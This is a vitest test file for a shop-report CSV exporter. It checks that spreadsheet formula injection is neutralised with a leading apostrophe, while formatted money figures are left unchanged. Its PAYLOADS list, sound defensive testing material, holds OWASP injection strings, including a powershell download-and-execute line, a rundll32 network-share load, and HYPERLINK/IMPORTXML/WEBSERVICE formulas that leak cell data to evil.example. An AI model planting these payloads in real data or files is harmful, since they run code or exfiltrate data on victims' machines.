import { describe, expect, it } from 'vitest';
import type { ShopReportsData } from '../../../../shared/domain/retail/reportReader';
import { formattersFor } from '../../i18n/format';
import { csvRows, tableCsv } from './csv';
import { buildReportSections, type ReportSection, type ReportTable, type Translate } from './reportTables';

// Formula injection in the CSV export (OWASP "CSV Injection"): every payload a shop could type
// into a name, a reference or a category reaches the file as text a spreadsheet will not run, and
// the formatter's figures ("-12,50 €") reach it as they are.

/** OWASP's CSV injection payloads and the usual variants (DDE, HYPERLINK, IMPORTXML, signs, tab/CR/LF prefixes). */
const PAYLOADS = [
  "=cmd|' /C calc'!A0",
  "=cmd|' /C notepad'!'A1'",
  "=cmd|'/C powershell IEX(wget 0r.pe/p)'!A0",
  "=cmd|'/c rundll32.exe \\\\10.0.0.1\\3\\2\\1.dll,0'!_xlbgnm.A1",
  "+cmd|' /C calc'!A0",
  "-cmd|' /C calc'!A0",
  "@SUM(1+9)*cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "=10+20+cmd|' /C calc'!A0",
  '-1+1',
  '+1+1',
  '=1+1',
  '@SUM(1+1)',
  '-1',
  '=HYPERLINK("http://evil.example/?leak="&A1,"Error: click to see")',
  '=IMPORTXML(CONCAT("http://evil.example/?v=",CONCATENATE(A2:E2)),"//a")',
  '=WEBSERVICE("http://evil.example/")',
  '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
  "\t=cmd|' /C calc'!A0",
  "\r=cmd|' /C calc'!A0",
  "\n-3+3+cmd|' /C calc'!A0",
  '\t-1+1',
];

const t: Translate = (key, options) => (options ? `${key}${JSON.stringify(options)}` : key);
const es = formattersFor('es');

function data(names: readonly string[], references: readonly string[] = []): ShopReportsData {
  return {
    range: { startDate: '2026-11-01', endDate: '2026-11-27' },
    weekBefore: { startDate: '2026-10-25', endDate: '2026-11-20' },
    hours: [],
    hoursWeekBefore: [],
    // A refund made a category's total negative: its money cell reads "-12,50 €".
    categorySales: names.map((name, i) => ({ category_id: i + 1, name, quantity: 1_000, total: i === 0 ? -1_250 : 100 + i })),
    productSales: references.map((reference, i) => ({ product_id: i + 1, name: `Product ${i}`, reference, quantity: 1_000, total: 5_000 - i })),
    payments: [],
    taxes: [],
    stocks: { rows: 1, alerts: [] },
  };
}

const section = (names: readonly string[], id: ReportSection['id'], references: readonly string[] = []): ReportTable =>
  buildReportSections(data(names, references), t, es, () => 'period').find((s) => s.id === id)!.table;

/** RFC 4180 reader (quotes, doubled quotes, CRLF), to read back what a spreadsheet would. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let inQuotes = false;
  for (let i = 0; i < text.length; i++) {
    const ch = text[i]!;
    if (inQuotes) {
      if (ch === '"' && text[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (ch === '"') {
        inQuotes = false;
      } else {
        cell += ch;
      }
    } else if (ch === '"') {
      inQuotes = true;
    } else if (ch === ',') {
      row.push(cell);
      cell = '';
    } else if (ch === '\r' && text[i + 1] === '\n') {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
      i++;
    } else {
      cell += ch;
    }
  }
  return rows;
}

const byName = (rows: string[][], column: number) => new Map(rows.slice(1).map((row) => [row[column]!, row]));

describe('CSV export: formula injection', () => {
  it('every OWASP payload in a category name is written as text with a leading apostrophe', () => {
    const table = section(PAYLOADS, 'categories');
    const rows = parseCsv(tableCsv(table));
    expect(rows[0]).toEqual(['categories_category', 'categories_units', 'categories_total']);
    const written = rows.slice(1, -1).map((row) => row[0]);
    expect(written).toHaveLength(PAYLOADS.length);
    expect([...written].sort()).toEqual(PAYLOADS.map((payload) => `'${payload}`).sort());
  });

  it('every payload used as a product reference is neutralised too', () => {
    const references = ["-2+3+cmd|' /C calc'!A0", '-1+1', '+1+1', '@SUM(1+1)', '=1+1'];
    const rows = parseCsv(tableCsv(section([], 'products', references)));
    expect(rows.slice(1, -1).map((row) => row[2])).toEqual(references.map((reference) => `'${reference}`));
  });

  it('a money cell made by the formatter stays as it is, even when a name with the same text is neutralised', () => {
    const names = ['-12,50\u00a0€', 'Mitjons'];
    const rows = parseCsv(tableCsv(section(names, 'categories')));
    const refunded = byName(rows, 0).get("'-12,50\u00a0€");
    expect(refunded, 'the name is text: neutralised').toBeDefined();
    expect(refunded![2], 'the total is a figure: as the screen shows it').toBe('-12,50\u00a0€');
    expect(byName(rows, 0).get('Mitjons')).toBeDefined();
    expect(rows.at(-1)).toEqual(['total', '2', '-11,49\u00a0€']);
  });

  it('ordinary names, quotes and commas are written as shown, quoted by RFC 4180', () => {
    const names = ['Camiseta "Bàsica", blanca', 'Café con leche', '10% off'];
    const table = section(names, 'categories');
    expect(
      csvRows(table)
        .slice(1, -1)
        .map((row) => row[0])
        .sort(),
    ).toEqual([...names].sort());
    expect(tableCsv(table)).toContain('"Camiseta ""Bàsica"", blanca"');
  });
});
